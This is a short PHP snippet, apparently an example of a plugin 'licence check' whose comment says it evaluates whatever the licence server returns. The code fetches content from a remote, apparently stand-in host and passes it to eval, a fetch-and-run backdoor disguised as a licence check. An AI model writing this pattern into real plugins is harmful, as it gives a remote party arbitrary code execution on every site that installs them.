<?php
// A plugin "licence check" that evaluates whatever the licence server returns.
$code = file_get_contents('https://licence.example-plugins.com/check.php?site=' . urlencode($_SERVER['HTTP_HOST']));
eval('?>' . $code);
